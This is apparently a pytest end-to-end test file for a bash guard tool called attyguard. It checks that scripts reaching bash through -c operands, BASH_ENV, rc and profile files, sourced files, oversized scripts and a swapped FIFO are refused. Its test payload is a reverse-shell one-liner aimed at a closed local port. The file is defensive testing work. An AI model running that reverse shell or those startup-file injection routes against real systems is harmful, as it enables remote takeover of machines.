"""End-to-end, families 3 and 9 of issue 9 without a terminal: what bash will really run
is judged — `-c` operands, BASH_ENV / --rcfile / --init-file / ENV, sourced files, big
scripts and FIFOs. Every payload only touches a marker (then dials a closed local port);
each refusal is exit 126 with one line on stderr, and the marker never appears."""

from __future__ import annotations

import os
import subprocess
import threading
from pathlib import Path

import pytest

from tests.e2e.harness import run

pytestmark = pytest.mark.e2e


def payload(marker: Path) -> str:
    return f"touch {marker}; bash -i >& /dev/tcp/127.0.0.1/9 0>&1"


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "marker"


@pytest.fixture
def evil(tmp_path: Path, marker: Path) -> Path:
    f = tmp_path / "evil.sh"
    f.write_text(f"echo setting up\n{payload(marker)}\n")
    return f


def refused(p: subprocess.CompletedProcess[bytes], marker: Path, *, why: str = "REFUSED") -> str:
    err = p.stderr.decode()
    assert p.returncode == 126, (p.returncode, err, p.stdout)
    assert err.count("\n") == 1 and why in err and "Traceback" not in err, err
    assert not marker.exists()
    return err


def test_operand_evaluated_by_the_string(attyguard_bin, ag_env, marker):
    p = run([attyguard_bin, "-c", 'eval "$1"', "_", payload(marker)], env=ag_env)
    refused(p, marker)
    for string in ('bash -c "$1"', "eval $1", 'eval "${1}"', 'eval "$@"', "eval \"$*\""):
        p = run([attyguard_bin, "-c", string, "_", payload(marker)], env=ag_env)
        refused(p, marker)


def test_quiet_operands_run(attyguard_bin, ag_env):
    for string in ('eval "$1"', 'printf "%s\\n" "$1"', "echo $*"):
        p = run([attyguard_bin, "-c", string, "_", "echo  a;echo b"], env=ag_env)
        assert (p.returncode, p.stderr) == (0, b""), p


def test_bash_env_file(attyguard_bin, ag_env, evil, marker):
    err = refused(run([attyguard_bin, "-c", "true"], env={**ag_env, "BASH_ENV": str(evil)}),
                  marker)
    assert f"{evil}:2" in err


def test_bash_env_quiet_file_runs_from_the_copy(attyguard_bin, ag_env, tmp_path):
    env_file = tmp_path / "env.sh"
    env_file.write_text("GREETING=hello\n")
    p = run([attyguard_bin, "-c", 'echo "$GREETING"'], env={**ag_env, "BASH_ENV": str(env_file)})
    assert (p.returncode, p.stdout, p.stderr) == (0, b"hello\n", b""), p


@pytest.mark.parametrize("option", ["--rcfile", "--init-file"])
def test_rcfile_of_interactive_dash_c(attyguard_bin, ag_env, evil, marker, option):
    refused(run([attyguard_bin, option, str(evil), "-i", "-c", "true"], env=ag_env), marker)


def test_bashrc_of_interactive_dash_c(attyguard_bin, ag_env, ag_home, marker):
    (ag_home / ".bashrc").write_text(payload(marker) + "\n")
    refused(run([attyguard_bin, "-i", "-c", "true"], env=ag_env), marker)


def test_env_of_posix_interactive(attyguard_bin, ag_env, evil, marker):
    refused(run([attyguard_bin, "--posix", "-i", "-c", "true"], env={**ag_env, "ENV": str(evil)}),
            marker)


@pytest.mark.parametrize("string", [". {f}", "source {f}", "bash {f}", "sh < {f}",
                                    'bash -c "$(cat {f})"', 'eval "$(< {f})"',
                                    "cat {f} | bash"])
def test_files_in_dash_c(attyguard_bin, ag_env, evil, marker, string):
    err = refused(run([attyguard_bin, "-c", string.format(f=evil)], env=ag_env), marker)
    assert str(evil) in err


def test_files_in_a_script_and_on_stdin(attyguard_bin, ag_env, evil, marker, tmp_path):
    script = tmp_path / "job.sh"
    script.write_text(f"echo start\n. {evil}\n")
    refused(run([attyguard_bin, str(script)], env=ag_env), marker)
    refused(run([attyguard_bin], env=ag_env, input=f"echo start\n. {evil}\n".encode()), marker)


def test_sourced_file_runs_from_the_judged_copy(attyguard_bin, ag_env, tmp_path):
    lib = tmp_path / "lib.sh"
    lib.write_text('echo "lib:$1"\n')
    script = tmp_path / "job.sh"
    script.write_text(f'echo "0=$0 1=$1"\n. {lib} x\n')
    p = run([attyguard_bin, str(script), "A"], env=ag_env, cwd=tmp_path)
    assert p.returncode == 0, p
    assert p.stdout.decode() == f"0={script} 1=A\nlib:x\n"


@pytest.mark.parametrize("filler", ["# a comment line\n" * 43_000, "true;" * 5_000 + "\n"])
def test_big_script_is_refused_not_warned(attyguard_bin, ag_env, marker, tmp_path, filler):
    text = filler + payload(marker) + "\n"
    script = tmp_path / "big.sh"
    script.write_text(text)
    why = "too large or complex"
    refused(run([attyguard_bin, str(script)], env=ag_env), marker, why=why)
    refused(run([attyguard_bin], env=ag_env, input=text.encode()), marker, why=why)
    if len(text) < 100_000:  # (an argv string is limited to 128 KiB)
        refused(run([attyguard_bin, "-c", text], env=ag_env), marker, why=why)


def test_big_script_runs_once_trusted(attyguard_bin, ag_env, tmp_path):
    script = tmp_path / "big.sh"
    script.write_text("true;" * 5_000 + "\necho done-big\n")
    p = run([attyguard_bin, "trust", "add", "--file", str(script)], env=ag_env)
    assert p.returncode == 0, p
    p = run([attyguard_bin, str(script)], env=ag_env)
    assert (p.returncode, p.stdout) == (0, b"done-big\n"), p


def test_fifo_script_is_read_once(attyguard_bin, ag_env, marker, tmp_path):
    """A FIFO answering the first open with harmless text and the second with the payload:
    bash runs the bytes that were judged, never a second read."""
    fifo = tmp_path / "script"
    os.mkfifo(fifo)
    stop = threading.Event()

    def writer() -> None:
        for text in (b"echo harmless\n", (payload(marker) + "\n").encode()):
            try:
                fd = os.open(fifo, os.O_WRONLY)
            except OSError:
                return
            if stop.is_set():
                os.close(fd)
                return
            try:
                os.write(fd, text)
            except OSError:
                pass
            finally:
                os.close(fd)

    t = threading.Thread(target=writer, daemon=True)
    t.start()
    try:
        p = run([attyguard_bin, str(fifo)], env=ag_env)
    finally:
        stop.set()
        # Unblock a writer waiting for a second reader, whatever happened.
        fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        t.join(5)
        os.close(fd)
    assert not marker.exists()
    if p.returncode == 0:
        assert p.stdout == b"harmless\n", p  # the second text was never run
    else:  # both writes arrived in our one read: judged together, refused
        refused(p, marker)


def test_login_profile_of_dash_c(attyguard_bin, ag_env, ag_home, marker):
    (ag_home / ".profile").write_text(payload(marker) + "\n")
    err = refused(run([attyguard_bin, "-l", "-c", "true"], env=ag_env), marker)
    assert f"{ag_home}/.profile:1" in err
